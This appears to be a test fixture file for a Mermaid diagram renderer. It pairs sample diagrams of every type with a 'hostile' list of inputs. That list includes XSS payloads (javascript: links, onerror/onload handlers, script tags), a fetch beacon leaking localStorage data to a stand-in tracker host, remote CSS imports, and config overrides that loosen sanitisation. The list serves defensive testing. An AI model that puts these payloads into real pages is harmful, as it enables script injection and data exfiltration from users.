/** One small diagram of every kind that models write. */
export const diagrams = {
  'a flowchart': 'flowchart TD\n  A[Start] -->|yes| B{Really?}\n  B --> C(["Done<br/>second line"])',
  'maths in a label': 'flowchart LR\n A["$$\\\\frac{1}{2}$$"]-->B',
  'another layout': '%%{init: {"layout":"elk"}}%%\nflowchart LR\n A-->B\n B-->C',
  'drawn by hand': '%%{init: {"look":"handDrawn"}}%%\nflowchart LR\n A-->B',
  'a sequence':
    'sequenceDiagram\n participant A as Alice\n A->>B: Hello\n Note right of B: a note\n loop every day\n B-->>A: hi\n end',
  classes: 'classDiagram\n Animal <|-- Duck\n Animal : +int age\n class Duck{ +swim() }',
  states:
    'stateDiagram-v2\n [*] --> Still\n Still --> [*]\n Still --> Moving : go\n note right of Still : hey',
  entities: 'erDiagram\n CUSTOMER ||--o{ ORDER : places\n CUSTOMER { string name }',
  'a plan': 'gantt\n title A\n dateFormat YYYY-MM-DD\n section S\n Task :a1, 2024-01-01, 30d',
  'a pie': 'pie title Pets\n "Dogs" : 386\n "Cats" : 85',
  'a journey': 'journey\n title My day\n section Go\n  Make tea: 5: Me\n  Do work: 1: Me, Cat',
  'a history': 'gitGraph\n commit\n branch dev\n commit\n checkout main\n merge dev',
  'a mind map': 'mindmap\n  root((mindmap))\n    A\n    B',
  'a time line': 'timeline\n title T\n 2002 : LinkedIn\n 2004 : Facebook : Google',
  quadrants: 'quadrantChart\n title Q\n x-axis Low --> High\n y-axis L --> H\n A: [0.3, 0.6]',
  requirements:
    'requirementDiagram\n requirement r {\n id: 1\n text: t\n risk: high\n verifymethod: test\n }\n element e {\n type: sim\n }\n e - satisfies -> r',
  C4: 'C4Context\n title T\n Person(a, "A", "desc")\n System(s, "S", "d")\n Rel(a, s, "Uses")',
  flows: 'sankey-beta\n\nA,B,10\nB,C,5',
  'a chart': 'xychart-beta\n title "S"\n x-axis [a,b,c]\n y-axis "r" 0 --> 10\n bar [1,5,9]\n line [2,3,4]',
  blocks: 'block-beta\n columns 2\n a b\n c',
  'a packet': 'packet-beta\n0-15: "Source"\n16-31: "Dest"',
  'a board': 'kanban\n  Todo\n    [Make]\n  Done\n    [x]',
  'an architecture':
    'architecture-beta\n group api(cloud)[API]\n service db(database)[DB] in api\n service s(server)[S] in api\n db:L -- R:s',
  'a radar': 'radar-beta\n axis a, b, c\n curve x{1,2,3}',
  'a tree map': 'treemap-beta\n"A"\n  "B": 10\n  "C": 20',
};

const attack = "parent.hacked?.push(1);hacked.push(1);fetch('https://tracker.example/'+localStorage.length)";

/** Diagrams that try to run code, send requests or read data. */
export const hostile = [
  `flowchart LR\n  A["a"] --> B["b"]\n  click A "javascript:${attack}"\n  click B call alert(1) "tip"`,
  'flowchart LR\n  A["a"] --> B["b"]\n  click A "https://tracker.example/x" _top\n  click B href "https://tracker.example/y" _self',
  `flowchart LR\n  A["<img src=x onerror=\\"${attack}\\">"] --> B["<img src=https://tracker.example/i.png>"]`,
  `flowchart LR\n  A["<script>${attack}</script><iframe src=https://tracker.example/f></iframe>"] --> B["<svg onload=${attack}>"]`,
  `flowchart LR\n  A["<a href='javascript:${attack}'>a</a>"] --> B["<form action=https://tracker.example/><button>b</button></form>"]`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "startOnLoad": true, "dompurifyConfig": {"ADD_TAGS": ["script"], "ADD_ATTR": ["onerror"]}}}%%\nflowchart LR\n  A["<img src=x onerror='${attack}'>"] --> B\n  click A call hack()`,
  `---\nconfig:\n  securityLevel: loose\n  secure: []\n  themeCSS: "@import url(https://tracker.example/c.css);"\n---\nflowchart LR\n  A["<img src=x onerror='${attack}'>"]`,
  '%%{init: {"themeCSS": "@import url(https://tracker.example/c.css); .node rect { fill: url(https://tracker.example/f.svg) }", "fontFamily": "x; } @font-face { font-family: y; src: url(https://tracker.example/f.woff)", "themeVariables": {"primaryColor": "red; background: url(https://tracker.example/p.png)"}}}%%\nflowchart LR\n  A --> B',
  'flowchart LR\n  A@{ img: "https://tracker.example/a.png", label: "x", pos: "t", w: 60, h: 60 }',
  'flowchart LR\n  A --> B\n  classDef x fill:red,background-image:url(https://tracker.example/b.png)\n  class A x',
  'sequenceDiagram\n  participant A\n  participant B\n  link A: Site @ https://tracker.example/l\n  links B: {"Site": "javascript:hacked.push(1)"}\n  A->>B: <img src=https://tracker.example/s.png onerror=hacked.push(1)>',
  'classDiagram\n  class A\n  link A "https://tracker.example/c" "tip"\n  callback A "hack" "tip"\n  A : <img src=https://tracker.example/d.png>',
  'gantt\n  dateFormat YYYY-MM-DD\n  section S\n  Task :a1, 2024-01-01, 30d\n  click a1 href "javascript:hacked.push(1)"\n  click a1 call hack()',
  'stateDiagram-v2\n  [*] --> A\n  A : <img src=https://tracker.example/e.png onerror=hacked.push(1)>\n  click A "https://tracker.example/" "tip"',
  'flowchart LR\n  A["$$\\\\href{javascript:hacked.push(1)}{x}\\\\includegraphics{https://tracker.example/k.png}$$"] --> B',
  'flowchart LR\n  __proto__["x"] --> constructor["y"]\n  toString --> hasOwnProperty',
];
